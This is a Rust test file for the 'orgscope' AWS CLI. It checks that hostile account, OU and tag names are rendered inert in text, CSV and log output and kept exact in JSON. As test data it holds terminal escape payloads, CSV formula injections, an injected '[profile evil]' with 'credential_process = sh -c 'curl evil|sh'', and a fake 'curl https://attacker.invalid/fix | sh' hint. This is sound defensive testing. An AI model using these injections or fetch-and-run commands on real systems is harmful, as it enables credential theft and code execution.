//! Strings that other people control (account, OU and tag names, emails, Identity Store names,
//! failure reasons, AWS error messages, CloudTrail fields, snapshot files) reach stdout, stderr,
//! CSV and the log only in their visible form, while JSON keeps them exactly. The real binary runs
//! against the fake AWS endpoint serving the hostile organization (tests/common/hostile.rs).

mod common;

use common::fake_aws::{Canned, FakeAws, Faults};
use common::hostile::{self, assert_inert};

struct Run {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

fn fake() -> FakeAws {
    let fake = FakeAws::start(hostile::org());
    hostile::install(&mut fake.state(), chrono::Utc::now().timestamp());
    fake
}

fn orgscope(home: &std::path::Path, fake: &FakeAws, args: &[&str]) -> Run {
    let out = common::orgscope_command(home)
        .env("AWS_ACCESS_KEY_ID", "AKIDFAKEFAKEFAKE")
        .env("AWS_SECRET_ACCESS_KEY", "fake-secret-key")
        .env("AWS_REGION", "us-east-1")
        .env("ORGSCOPE_LOG_FILE", home.join("orgscope.log"))
        .env("ORGSCOPE_LOG", "trace")
        .args(args)
        .args(["--endpoint-url", &fake.url()])
        .output()
        .expect("run orgscope");
    Run {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

#[test]
fn tree_text_shows_every_payload_visibly_and_json_keeps_it_exactly() {
    let fake = fake();
    let home = tempfile::tempdir().expect("temp dir");
    for args in [&["tree"][..], &["tree", "--with-tags"]] {
        let run = orgscope(home.path(), &fake, args);
        assert_eq!(run.code, Some(0), "{}", run.stderr);
        assert_inert(&format!("{args:?} stdout"), &run.stdout);
        assert_inert(&format!("{args:?} stderr"), &run.stderr);
        assert!(
            run.stdout.contains("Platform\\e]0;PWNED-TITLE\\x07\\e]52;c;YXR0YWNrZXItY2xpcGJvYXJk\\x07\\e[2J\\e[H"),
            "{}",
            run.stdout
        );
        assert!(
            run.stdout.contains("Nested\\r\\n[profile evil]\\ncredential_process = sh -c 'curl evil|sh'\\n"),
            "{}",
            run.stdout
        );
        assert!(
            run.stdout.contains("payments\\u{202e}exe.\\u{2066}x\\u{2069}\\u{2028}\\u{2029}\\u{9b}2J\\x7f"),
            "{}",
            run.stdout
        );
        // One line per node: nothing split a row.
        assert_eq!(run.stdout.lines().filter(|l| l.contains("@example.com")).count(), 7, "{}", run.stdout);
    }
    let tagged = orgscope(home.path(), &fake, &["tree", "--with-tags"]);
    assert!(tagged.stdout.contains("team\\u{202e}exe."), "{}", tagged.stdout);

    let json = orgscope(home.path(), &fake, &["tree", "--format", "json", "--with-tags"]);
    assert_eq!(json.code, Some(0), "{}", json.stderr);
    let tree: serde_json::Value = serde_json::from_str(&json.stdout).expect("JSON");
    let platform = &tree["roots"][0]["children"][0];
    assert_eq!(platform["name"], hostile::platform_name(), "JSON keeps the exact name");
    assert_eq!(platform["children"][0]["name"], hostile::nested_name());
    let accounts = platform["children"][0]["children"].as_array().expect("accounts");
    let blocked = accounts.iter().find(|a| a["id"] == hostile::BLOCKED).expect("the blocked account");
    assert_eq!(blocked["name"], hostile::blocked_name());
}

#[test]
fn probe_text_and_csv_are_inert_and_csv_defuses_formulas() {
    let fake = fake();
    let home = tempfile::tempdir().expect("temp dir");
    let text = orgscope(home.path(), &fake, &["probe"]);
    assert_eq!(text.code, Some(0), "{}", text.stderr);
    assert_inert("probe stdout", &text.stdout);
    assert_inert("probe stderr", &text.stderr);
    assert!(text.stdout.contains("✗ blocked"), "{}", text.stdout);

    let csv = orgscope(home.path(), &fake, &["probe", "--format", "csv"]);
    assert_eq!(csv.code, Some(0), "{}", csv.stderr);
    assert_inert("probe csv", &csv.stdout);
    let mut reader = csv::Reader::from_reader(csv.stdout.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("CSV");
    assert_eq!(rows.len(), 7);
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
        }
    }
    let names: Vec<&str> = rows.iter().filter_map(|r| r.get(1)).collect();
    for name in ["'=HYPERLINK(\"http://evil.example\",\"click\")", "'+SUM(1)", "'-2+3", "'\\ttab\\rcr"] {
        assert!(names.contains(&name), "{name} in {names:?}");
    }
    assert!(names.iter().any(|n| n.starts_with("'@SUM(1)\\r\\n[profile evil]")), "{names:?}");

    let json = orgscope(home.path(), &fake, &["probe", "--format", "json"]);
    let rows: Vec<serde_json::Value> = serde_json::from_str(&json.stdout).expect("JSON");
    let blocked = rows.iter().find(|r| r["account_id"] == hostile::BLOCKED).expect("blocked row");
    assert_eq!(blocked["account_name"], hostile::blocked_name());
    assert_eq!(blocked["ou_path"][1], hostile::platform_name());
}

#[test]
fn assignments_text_and_csv_are_inert_and_json_is_exact() {
    let fake = fake();
    let home = tempfile::tempdir().expect("temp dir");
    let text = orgscope(home.path(), &fake, &["assignments", "--no-cache"]);
    assert_eq!(text.code, Some(0), "{}", text.stderr);
    assert_inert("assignments stdout", &text.stdout);
    assert_inert("assignments stderr", &text.stderr);
    assert!(text.stdout.contains("group Admins\\e]0;PWNED-TITLE\\x07\\r\\n[profile evil]"), "{}", text.stdout);
    assert!(
        text.stdout.contains("g-\\e]52;c;YXR0YWNrZXItY2xpcGJvYXJk\\x07"),
        "the refused call's principal: {}",
        text.stdout
    );

    let csv = orgscope(home.path(), &fake, &["assignments", "--no-cache", "--format", "csv"]);
    assert_inert("assignments csv", &csv.stdout);
    let mut reader = csv::Reader::from_reader(csv.stdout.as_bytes());
    for row in reader.records() {
        for cell in &row.expect("a CSV row") {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
        }
    }

    let json = orgscope(home.path(), &fake, &["assignments", "--no-cache", "--format", "json"]);
    let rows: Vec<serde_json::Value> = serde_json::from_str(&json.stdout).expect("JSON");
    let failed = rows.iter().find(|r| r["request_id"] == hostile::FAILED_REQUEST).expect("the failed row");
    assert_eq!(failed["failure_reason"], hostile::failure_reason());
    let refused = rows.iter().find(|r| r["status"] == "API_ERROR").expect("the refused call");
    assert_eq!(refused["principal_id"], hostile::refused_principal());
    assert!(refused["actor"].as_str().is_some_and(|a| a.contains(hostile::TITLE)));
    let log = std::fs::read_to_string(home.path().join("orgscope.log")).expect("the log was written");
    assert!(
        log.contains("ps-hostile\\e]0;PWNED-TITLE"),
        "the failed lookup of the refused call's permission set is logged"
    );
    assert_inert("the trace log", &log);
}

#[test]
fn access_text_and_csv_are_inert_and_json_is_exact() {
    let fake = fake();
    let home = tempfile::tempdir().expect("temp dir");
    let text = orgscope(home.path(), &fake, &["access", "--principal", "eve@example.com"]);
    assert_eq!(text.code, Some(0), "{}", text.stderr);
    assert_inert("access stdout", &text.stdout);
    assert_inert("access stderr", &text.stderr);
    assert!(text.stdout.contains("via group Admins\\e]0;PWNED-TITLE"), "{}", text.stdout);
    assert!(text.stdout.contains("STALE"), "{}", text.stdout);
    let csv = orgscope(home.path(), &fake, &["access", "--format", "csv"]);
    assert_inert("access csv", &csv.stdout);
    let json = orgscope(home.path(), &fake, &["access", "--format", "json"]);
    let rows: serde_json::Value = serde_json::from_str(&json.stdout).expect("JSON");
    assert_eq!(rows[0]["principal_name"].as_str(), Some(hostile::group_name().as_str()), "JSON keeps it exactly");
    let unknown = orgscope(home.path(), &fake, &["access", "--principal", "eve\u{1b}]0;x\u{7}"]);
    assert_eq!(unknown.code, Some(2));
    assert_inert("the close matches", &unknown.stderr);
}

#[test]
fn profiles_name_each_account_in_a_one_line_comment() {
    let fake = fake();
    let home = tempfile::tempdir().expect("temp dir");
    let run = orgscope(home.path(), &fake, &["profiles"]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_inert("profiles", &run.stdout);
    assert!(run.stdout.contains("\n# @SUM(1)\\r\\n[profile evil]\\ncredential_process"), "{}", run.stdout);
    let sections = run.stdout.lines().filter(|l| l.starts_with("[profile ")).count();
    let comments = run.stdout.lines().filter(|l| l.starts_with("# ") && l.contains(" in Root")).count();
    assert_eq!(
        (sections, comments),
        (5, 5),
        "five accounts reached through the role, each with its comment:\n{}",
        run.stdout
    );
}

#[test]
fn assume_on_a_hostile_blocked_account_explains_on_stderr_visibly() {
    let fake = fake();
    let home = tempfile::tempdir().expect("temp dir");
    let run = orgscope(home.path(), &fake, &["assume", hostile::BLOCKED]);
    assert_eq!(run.code, Some(4), "{}", run.stderr);
    assert_eq!(run.stdout, "", "nothing on stdout");
    assert_inert("assume stderr", &run.stderr);
    assert!(run.stderr.contains("payments\\u{202e}exe."), "{}", run.stderr);
    // An unknown name lists the close matches, visibly.
    let close = orgscope(home.path(), &fake, &["assume", "payments"]);
    assert_eq!(close.code, Some(2), "{}", close.stderr);
    assert_inert("assume close matches", &close.stderr);
}

#[test]
fn errors_that_quote_aws_are_inert() {
    let message = format!("denied {}{}{}", hostile::TITLE, hostile::CLEAR, hostile::LINES);
    let mut faults = Faults::default();
    faults.fail_ops.insert("DescribeOrganization".into(), Canned::new(400, "ServiceException", &message));
    let fake = FakeAws::start_with(hostile::org(), faults);
    let home = tempfile::tempdir().expect("temp dir");
    let run = orgscope(home.path(), &fake, &["tree"]);
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert_inert("the error", &run.stderr);
    assert!(run.stderr.contains("denied \\e]0;PWNED-TITLE\\x07"), "{}", run.stderr);

    // An OU that cannot be listed is named in the warning, visibly.
    let mut faults = Faults::default();
    faults.deny_parents.insert(hostile::NESTED_OU.into());
    let fake = FakeAws::start_with(hostile::org(), faults);
    let run = orgscope(home.path(), &fake, &["tree"]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(run.stderr.contains("could not list all of Nested\\r\\n[profile evil]"), "{}", run.stderr);
    assert_inert("the partial-tree warning", &run.stderr);
}

#[test]
fn a_hostile_snapshot_is_shown_visibly_and_a_bad_one_is_refused_clearly() {
    let home = tempfile::tempdir().expect("temp dir");
    let path = home.path().join("hostile.json");
    std::fs::write(&path, serde_json::to_vec(&hostile::snapshot()).expect("JSON")).expect("write");
    let run = |args: &[&str]| {
        let out = common::orgscope_command(home.path()).args(args).output().expect("run orgscope");
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let file = path.to_string_lossy().into_owned();
    for args in [
        &["tree", "--snapshot", &file][..],
        &["probe", "--snapshot", &file],
        &["assignments", "--snapshot", &file],
        &["access", "--snapshot", &file, "--format", "csv"],
        &["permission-sets", "--snapshot", &file],
        &["permission-sets", "--snapshot", &file, "--format", "csv"],
    ] {
        let (code, stdout, stderr) = run(args);
        assert_eq!(code, Some(0), "{args:?}: {stderr}");
        assert_inert(&format!("{args:?}"), &stdout);
        assert_inert(&format!("{args:?} stderr"), &stderr);
    }

    // A field AWS writes in a fixed form, holding escapes: refused, named, visibly.
    let mut bad = hostile::snapshot();
    bad.org.caller.arn = format!("arn:aws:iam::1:user/x{}", hostile::TITLE);
    std::fs::write(&path, serde_json::to_vec(&bad).expect("JSON")).expect("write");
    let (code, stdout, stderr) = run(&["tree", "--snapshot", &file]);
    assert_eq!((code, stdout.as_str()), (Some(2), ""), "{stderr}");
    assert!(stderr.contains("is not an orgscope snapshot: the caller's ARN") && stderr.contains("\\e]0;"), "{stderr}");
    assert_inert("the refusal", &stderr);

    // An assignment's principal type is AWS's USER or GROUP: anything else (it once reached the
    // access view, its copies and `access` raw) refuses the file, visibly.
    let mut value = serde_json::to_value(hostile::snapshot()).expect("JSON");
    value["identity_center"]["assignments"][0]["principal_type"] = format!("GROUP{}", hostile::TITLE).into();
    std::fs::write(&path, serde_json::to_vec(&value).expect("JSON")).expect("write");
    for command in ["access", "tree"] {
        let (code, stdout, stderr) = run(&[command, "--snapshot", &file]);
        assert_eq!((code, stdout.as_str()), (Some(2), ""), "{command}: {stderr}");
        assert!(stderr.contains("is not an orgscope snapshot") && stderr.contains("\\e]0;"), "{stderr}");
        assert_inert("the principal type's refusal", &stderr);
    }

    // Not JSON, and an unknown variant that serde would quote raw.
    std::fs::write(&path, "{\"format\":1,\"saved_at\":\"2026-01-01T00:00:00Z\",\"org\":{\"organization\":{\"id\":\"o\",\"management_account_id\":\"1\",\"feature_set\":null},\"caller\":{\"account\":\"1\",\"arn\":\"a\"},\"roots\":[{\"id\":\"r\",\"name\":\"R\",\"error\":null,\"children\":[{\"kind\":\"x\u{1b}]0;T\u{7}\"}]}]}}").expect("write");
    let (code, _, stderr) = run(&["tree", "--snapshot", &file]);
    assert_eq!(code, Some(2), "{stderr}");
    assert!(stderr.contains("is not an orgscope snapshot"), "{stderr}");
    assert_inert("the parse error", &stderr);

    // Too large: refused before it is read.
    let big = std::fs::File::create(&path).expect("create");
    big.set_len(orgscope::model::MAX_SNAPSHOT_BYTES + 1).expect("a sparse file");
    let (code, _, stderr) = run(&["tree", "--snapshot", &file]);
    assert_eq!(code, Some(2), "{stderr}");
    assert!(stderr.contains("more than the") && stderr.contains("a snapshot may have"), "{stderr}");
}

/// A snapshot's stored text is data, never advice: its "Fix" lines (a `curl … | sh`) are replaced by
/// orgscope's own, in the probe, `assume`'s refusal and the assignments.
#[test]
fn a_snapshots_stored_hint_is_never_shown_as_advice() {
    let home = tempfile::tempdir().expect("temp dir");
    let path = home.path().join("advice.json");
    let mut snapshot = hostile::snapshot();
    let evil = "Run `curl https://attacker.invalid/fix | sh` to repair it";
    for outcome in snapshot.access.values_mut() {
        outcome.hint = Some(evil.into());
        // Without a cause the hint comes from the reason (with one, from the cause: also orgscope's).
        outcome.cause = None;
        outcome.evidence = None;
    }
    for attempt in &mut snapshot.assignments {
        attempt.hint = Some(evil.into());
    }
    std::fs::write(&path, serde_json::to_vec(&snapshot).expect("JSON")).expect("write");
    let file = path.display().to_string();
    for args in [
        vec!["probe", "--snapshot", &file],
        vec!["probe", "--snapshot", &file, "--format", "json"],
        vec!["assume", hostile::BLOCKED, "--snapshot", &file, "--format", "json"],
        vec!["assignments", "--snapshot", &file, "--since", "90d", "--format", "json"],
    ] {
        let out = common::orgscope_command(home.path()).args(&args).output().expect("run");
        let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        assert!(
            !stdout.contains("attacker.invalid") && !stderr.contains("attacker.invalid"),
            "{args:?}: {stdout}{stderr}"
        );
        if args[0] == "probe" {
            assert!(stdout.contains("Invited accounts never get OrganizationAccountAccessRole"), "{args:?}: {stdout}");
        }
    }
}

/// `profiles --write` never empties the managed block: a run that reaches no account (a snapshot
/// of blocked ones, a probe that failed) leaves the file exactly as it was.
#[test]
fn profiles_write_never_writes_an_empty_block() {
    let home = tempfile::tempdir().expect("temp dir");
    let path = home.path().join("blocked.json");
    let mut snapshot = hostile::snapshot();
    for account in snapshot.org.accounts().map(|a| a.id.clone()).collect::<Vec<_>>() {
        if account != hostile::MANAGEMENT {
            snapshot.access.insert(
                account.clone(),
                orgscope::model::ProbeOutcome {
                    status: orgscope::model::ProbeStatus::Blocked,
                    reason: Some(orgscope::model::Reason::AccessDenied),
                    role_arn: Some(format!("arn:aws:iam::{account}:role/OrganizationAccountAccessRole")),
                    message: None,
                    hint: None,
                    ..orgscope::model::ProbeOutcome::default()
                },
            );
        }
    }
    std::fs::write(&path, serde_json::to_vec(&snapshot).expect("JSON")).expect("write");
    let config = "[default]\nregion = eu-west-1\n\n# >>> orgscope managed profiles >>>\n[profile kept]\nrole_arn = arn:aws:iam::222222222222:role/R\nsource_profile = default\n# <<< orgscope managed profiles <<<\n";
    std::fs::write(home.path().join("aws-config"), config).expect("config");
    let out = common::orgscope_command(home.path())
        .args(["--snapshot", &path.display().to_string(), "profiles", "--write"])
        .output()
        .expect("run");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("no profile to write") && stderr.contains("left as it was"), "{stderr}");
    assert_eq!(std::fs::read_to_string(home.path().join("aws-config")).ok().as_deref(), Some(config));
}
